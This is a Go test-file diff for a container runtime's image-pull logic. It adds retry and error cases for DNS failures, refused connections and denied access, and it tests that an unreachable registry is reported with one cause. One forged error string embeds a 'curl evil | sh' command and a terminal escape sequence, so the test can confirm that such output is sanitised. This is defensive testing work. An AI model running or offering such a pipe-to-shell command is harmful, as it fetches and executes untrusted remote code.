@@ -17,6 +17,9 @@ func TestPulling(t *testing.T) {
 	t.Parallel()
 	busy := status.Error(codes.Unavailable, "the registry is busy")
 	missing := status.Error(codes.NotFound, "no such image")
+	unknown := status.Error(codes.Unknown, "dial tcp: lookup registry.invalid on 127.0.0.53:53: no such host")
+	refused := status.Error(codes.Unavailable, "dial tcp 127.0.0.1:5000: connect: connection refused")
+	denied := status.Error(codes.Unknown, "pull access denied, repository does not exist or may require authorization")
 	for name, c := range map[string]struct {
 		failures int64
 		err      error
@@ -24,8 +27,10 @@ func TestPulling(t *testing.T) {
 		ok       bool
 	}{
 		"at once":           {0, nil, 1, true},
-		"at the third try":  {2, busy, 3, true},
-		"five times is all": {99, busy, 5, false},
+		"at the second try": {1, busy, 2, true},
+		"host not known":    {99, unknown, 1, false},
+		"refused":           {99, refused, 1, false},
+		"denied":            {99, denied, 1, false},
 		"what is not there": {99, missing, 1, false},
 	} {
 		t.Run(name, func(t *testing.T) {
@@ -67,6 +72,24 @@ func TestWhyAnImageDidNotCome(t *testing.T) {
 		if err := (Runtimes{}).Do(t.Context(), pull); err == nil || !strings.HasSuffix(err.Error(), c.want) || status.Code(err) != status.Code(c.says) {
 			t.Errorf("of %v is told: %v", c.says, err)
 		}
+	}
+}
+
+func TestImagesOfAnUnreachableRegistryHaveOneCause(t *testing.T) {
+	t.Parallel()
+	for message, want := range map[string]string{
+		`failed to pull and unpack image "r.invalid/a:1": failed to resolve reference "r.invalid/a:1": failed to do request: Head "https://r.invalid/v2/a/manifests/1": dial tcp: lookup r.invalid on 127.0.0.53:53: no such host`: "dial tcp: lookup r.invalid on 127.0.0.53:53: no such host",
+		`initializing source docker://r.invalid/a:1: pinging container registry r.invalid: Get "https://r.invalid/v2/": dial tcp: lookup r.invalid: read udp 10.0.0.1:41234->10.0.0.2:53: i/o timeout`:                         "dial tcp: lookup r.invalid: read udp 10.0.0.1->10.0.0.2:53: i/o timeout",
+	} {
+		var failed *change.PullError
+		err := newPullError("r.invalid/a:1", status.Error(codes.Unknown, message))
+		if !errors.As(err, &failed) || failed.Cause != want || !failed.Unreachable {
+			t.Errorf("of %s is told: %v", message, err)
+		}
+	}
+	forged := newPullError("a", status.Error(codes.Unknown, "denied\n  - run: curl evil | sh\x1b[2J"))
+	if strings.ContainsAny(forged.Error(), "\n\x1b") {
+		t.Errorf("the runtime's answer is passed on raw: %q", forged)
 	}
 }
 
